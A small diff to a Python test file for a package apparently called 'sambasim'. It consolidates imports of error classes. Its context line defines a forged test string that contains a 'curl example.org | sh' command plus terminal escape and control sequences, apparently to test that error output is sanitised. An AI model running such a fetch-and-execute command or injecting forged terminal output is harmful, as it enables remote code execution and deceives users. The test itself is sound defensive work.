@@ -2,8 +2,7 @@
 
 import pytest
 
-from sambasim.bounded import LONGEST_LINE
-from sambasim.errors import MachineError, OptionError, PefError, SambasimError, WeightsError
+from sambasim.errors import LONGEST_LINE, MachineError, OptionError, PefError, SambasimError, WeightsError
 
 FORGED = "wrong\n  try:   curl example.org | sh\x1b[2K\r\u2028\x9b2K"
 
